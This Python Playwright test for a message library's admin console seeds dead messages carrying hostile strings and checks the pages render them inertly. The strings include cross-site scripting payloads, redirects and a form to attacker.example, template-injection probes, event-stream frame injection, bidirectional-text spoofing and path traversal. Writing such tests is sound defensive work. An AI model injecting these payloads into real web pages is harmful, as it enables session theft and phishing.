"""What applications and attackers write into keys, topics, headers, errors, payloads and reasons is shown, and does
nothing: no script runs, nothing is loaded, no text pretends to be another. A page that complains fails (`operators`).
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.async_api import Page, expect

from postroad import Message
from postroad.admin import By, open_admin
from postroad.message import new_id
from tests.browser.operators import Operator
from tests.browser.shift import Shift

pytestmark = pytest.mark.asyncio(loop_scope="session")

RUN = "globalThis.hacked=1"
NASTY = (
    f"<script>{RUN}</script>",
    f"</title></textarea></style></script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"' autofocus onfocus={RUN} x='",
    f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>click</a>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
    "<base href=http://attacker.example/><link rel=stylesheet href=//attacker.example/x.css>",
    "<form action=http://attacker.example/><button id=confirm>Retry</button></form>",
    f"<div hx-on:load='{RUN}' hx-get='/' hx-trigger=load data-hx-on--load='{RUN}'>x</div>",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "<!-- --!> <![CDATA[ ]]> &lt;script&gt; &#x3c;script&#x3e; \\u003cscript\\u003e",
    "data: x\n\nevent: fragment\ndata: <h1>not ours</h1>\n\n",
    "invoice\u202efdp.exe \u2066left\u2069 \u200fright",
    "\u200b\u200d\ufeff\u2028\u2029\u0085",
    "\x1b[31mred\x1b[0m \x07\x08\x7f",
    "Z" + "\u0335\u0336\u0489" * 30,
    "x" * 300,
    "../../static/%2e%2e/?#&sink=other",
)
UNSEEN = "\u202e\u2066\u2069\u200f\u200b\u2028\x1b\x07"
"""What changes how a text reads, and must not reach the page as it is."""


async def filled(shift: Shift) -> list[str]:
    """A dead message for each text, which is in its key, its header, its payload and its error; held keys; an audit."""
    ids = [new_id() for _ in NASTY]
    await shift.log.add(*(
        Message({"text": text, text: 1}, type=f"t{number}", topic=f"t{number}.<b>x</b>", key=text, id=id,
                headers={"note": text.replace("\n", " ").replace("\x00", "")})
        for number, (text, id) in enumerate(zip(NASTY, ids, strict=True))
    ))  # fmt: skip
    async with open_admin(shift.log.url) as admin:
        for number, id in enumerate(ids):
            await shift.log.execute(
                "insert into postroad.deferred (sink, lane, position, attempts, blocks, state, key, error) "
                "select 'default', l.lane, o.position, 5, false, 'dead', o.key, $2 from postroad.outbox o "
                "join postroad.lanes l on o.slot between l.first_slot and l.last_slot where o.id = $1",
                id, NASTY[number],
            )  # fmt: skip
        for text in NASTY[:6]:
            await admin.hold("default", text, By(text, text))
    return [str(id) for id in ids]


async def harmless(anna: Operator) -> None:
    """Nothing has run, and nothing on the page is an element, an address or a direction of an attacker's."""
    page = anna.page
    assert await page.evaluate("globalThis.hacked") is None
    assert urlsplit(page.url).netloc == urlsplit(anna.console).netloc
    assert await page.locator("main :is(script, iframe, img, style, base, link, meta)").count() == 0
    assert await page.locator("main [onload], main [onerror], main [onfocus], main [srcdoc]").count() == 0
    shown = await visible_text(page)
    assert not set(UNSEEN) & set(shown), [character for character in UNSEEN if character in shown]


async def visible_text(page: Page) -> str:
    return str(await page.locator("main").inner_text())


async def test_hostile_content_is_shown_and_does_nothing(shift: Shift) -> None:
    await shift.log.store.open()
    await shift.log.store.leases.create("default", "null://<b>here</b>", lanes=2, start="oldest")
    await shift.log.store.close()
    ids = await filled(shift)
    async with shift.operator() as anna:
        for path in ("", "trouble", "messages", "key", "audit", "lanes"):
            await anna.open(path)
            await expect(anna.page.locator("#connection")).not_to_have_text("times in UTC")
            await harmless(anna)
        await anna.open("trouble")
        await anna.see("<script>", "onerror", "javascript:")
        for text, id in zip(NASTY, ids, strict=True):
            await anna.open(f"message/{id}")
            await harmless(anna)
            if text.isprintable() and len(text) < 100:
                await anna.see(text)
            await anna.page.get_by_label("Reason").fill(text.replace("\n", " "))
            await anna.press("Show the payload")
            await anna.see("This look is in the audit")
            await harmless(anna)
            await anna.page.locator("main dd a").first.click()  # the key
            await expect(anna.page.get_by_role("heading", level=1)).to_contain_text("Key")
            await harmless(anna)
            await anna.open("do/drop", error_pattern="", id=id)
            await anna.see("1 dead message would be dropped")
            await harmless(anna)
        await anna.open("audit")
        await harmless(anna)
